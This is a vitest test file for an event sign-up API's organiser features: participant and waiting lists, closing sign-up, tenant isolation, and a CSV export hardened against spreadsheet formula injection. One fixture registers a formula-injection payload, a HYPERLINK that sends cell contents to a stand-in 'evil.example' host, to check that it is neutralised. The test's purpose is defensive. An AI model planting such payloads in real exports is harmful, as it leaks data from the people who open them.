import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, it } from 'vitest'
import { neutraliseFormula } from '../../../functions/shared/spreadsheet-csv.ts'
import { createSignups } from '../../../functions/events/signups.ts'
import { createEditorEnvironment } from '../../support/editors.ts'
import { testEvent, testSignup } from '../../support/events.ts'
import { publishNew } from '../../support/fixtures.ts'

/*
 * The organisers' side (issue 13): the owning edition's editors see participants and the waiting list, export them
 * as CSV that a spreadsheet cannot run, and close sign-up; another edition's editors see none of it.
 */
let env: Awaited<ReturnType<typeof createEditorEnvironment>>
let eventId: string

beforeAll(async () => {
  env = await createEditorEnvironment('event-organisers')
  const event = testEvent('akershus', 'organisert', { capacity: 2, waitingList: true })
  const published = await publishNew(env.services, event)
  eventId = published.id
  const signups = createSignups(env.services.db)
  const stored = { ...event, id: eventId }
  await signups.register(stored, testSignup('kari', { name: 'Kari Nordmann' }), 'Samtykke.')
  // What a reader could type to attack the organiser's spreadsheet.
  await signups.register(stored, testSignup('formula', { name: '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")', workplace: '+47 sykehjem', municipality: '@SUM(1+1)', needs: '-2+3' }), 'Samtykke.')
  await signups.register(stored, testSignup('venter', { name: 'Ola Venter' }), 'Samtykke.')
})

const path = (id = eventId) => `/api/editor/tenants/akershus/events/${id}/signups`

describe('organisers', () => {
  it('see who has a seat and who waits, in order', async () => {
    const response = await env.call('GET', path(), env.tokens.akershus)
    expect(response.status).toBe(200)
    const list = (await response.json()) as { seats: { confirmed: number; waiting: number }; confirmed: Array<{ name: string }>; waiting: Array<{ name: string }> }
    expect(list.seats).toMatchObject({ confirmed: 2, waiting: 1 })
    expect(list.confirmed.map((participant) => participant.name)).toEqual(['Kari Nordmann', expect.stringMatching(/^=HYPERLINK/)])
    expect(list.waiting.map((participant) => participant.name)).toEqual(['Ola Venter'])
  })

  it('export CSV in which no cell can start a formula', async () => {
    const response = await env.call('GET', `${path()}.csv`, env.tokens.akershus)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="pameldte-organisert.csv"')
    const rows = parse((await response.text()).replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][]
    expect(rows[0]).toContain('Navn')
    expect(rows).toHaveLength(4)
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
    const formula = rows.find((row) => row.some((cell) => cell.includes('HYPERLINK')))!
    expect(formula).toEqual(expect.arrayContaining([`'=HYPERLINK("https://evil.example/?x="&A1,"Klikk")`, "'+47 sykehjem", "'@SUM(1+1)", "'-2+3"]))
    expect(rows.find((row) => row.includes('Ola Venter'))).toEqual(expect.arrayContaining(['Venteliste', '1']))
    // Tab and carriage return start formulas in some spreadsheets too (OWASP).
    expect(['\t=1', '\r=1', 'Kari', ''].map(neutraliseFormula)).toEqual(["'\t=1", "'\r=1", 'Kari', ''])
  })

  it('close sign-up, and readers are then turned away', async () => {
    const closed = await env.call('PUT', `${path()}/closed`, env.tokens.akershus, { closed: true })
    expect(closed.status).toBe(200)
    expect(((await closed.json()) as { seats: { closed: boolean } }).seats.closed).toBe(true)
    const outcome = await createSignups(env.services.db).register({ ...testEvent('akershus', 'organisert', { capacity: 2, waitingList: true }), id: eventId }, testSignup('sen'), 'Samtykke.')
    expect(outcome.outcome).toBe('closed')
    await env.call('PUT', `${path()}/closed`, env.tokens.akershus, { closed: false })
  })
})

describe('another edition', () => {
  it('is refused the list, the CSV and closing (403), and cannot reach the event through its own edition (404)', async () => {
    for (const [method, suffix, body] of [['GET', ''], ['GET', '.csv'], ['PUT', '/closed', { closed: true }]] as const) {
      const response = await env.call(method, `${path()}${suffix}`, env.tokens.innlandet, body)
      expect(response.status, `${method} ${suffix}`).toBe(403)
    }
    const own = await env.call('GET', `/api/editor/tenants/innlandet/events/${eventId}/signups`, env.tokens.innlandet)
    expect(own.status).toBe(404)
    expect(await own.text()).not.toContain('Kari')
    expect(((await (await env.call('GET', path(), env.tokens.akershus)).json()) as { seats: { closed: boolean } }).seats.closed).toBe(false)
  })

  it('answers an item that is not an event 404, and a malformed id 400', async () => {
    expect((await env.call('GET', path('01JD00000000000000000000AA'), env.tokens.akershus)).status).toBe(404)
    expect((await env.call('GET', path('nope'), env.tokens.akershus)).status).toBe(400)
  })
})
